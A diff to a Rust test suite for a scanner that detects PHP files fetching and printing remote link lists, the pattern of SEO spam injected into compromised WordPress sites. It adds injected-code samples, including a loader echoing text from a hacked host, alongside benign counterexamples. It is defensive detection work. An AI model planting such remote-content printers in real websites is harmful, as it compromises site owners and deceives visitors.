@@ -1458,6 +1458,20 @@ fn a_link_list_fetched_from_another_site_and_printed_is_found() {
     let header = "<?php\nrequire_once __DIR__ . '/wp-load.php';\nwp();\nrequire_once ABSPATH . WPINC . '/template-loader.php';\n\
                   $a = file_get_contents( 'https://hacked.example.ac.id/wp-content/sitk/toto.txt' );\necho $a;\n";
     assert_eq!(found(header), [Why::PrintsRemoteContent]);
+    // Regression: fresh100's printer is a function of the file, given the list's address.
+    let printer = "<?php\nfunction fetch_and_display_content($url) { $response = wp_remote_get($url);\n\
+                   if (is_wp_error($response)) { return; } $body = wp_remote_retrieve_body($response); echo $body; }\n\
+                   $links = 'https://www.backlinks.example/menu/server-id/script.txt';\nfetch_and_display_content($links);\n";
+    assert_eq!(found(printer), [Why::PrintsRemoteContent]);
+    // A function that fetches a version file and prints only its own words.
+    let notice = printer.replace("echo $body;", "update_option('v', $body); } function show() { echo 'Updated';");
+    assert!(found(&notice).is_empty(), "{:?}", found(&notice));
+    // Regression (phpBB's `develop/generate_utf_casefold.php`): a download that prints its
+    // progress, not the text it saves.
+    let download = "<?php\nfunction download($url) { echo 'Downloading from ', $url, ' '; $fpr = fopen($url, 'rb');\n\
+                    $fpw = fopen(basename($url), 'wb'); while ($d = fread($fpr, 1024)) { fwrite($fpw, $d); } echo \"\\n\"; }\n\
+                    download('http://unicode.org/Public/UNIDATA/CaseFolding.txt');\n";
+    assert!(found(download).is_empty(), "{:?}", found(download));
     // Another site's page (not a text file) shown by a script of its own: a status or a feed.
     let status = "<?php echo file_get_contents('https://status.example.com/summary.html');";
     assert!(found(status).is_empty(), "{:?}", found(status));
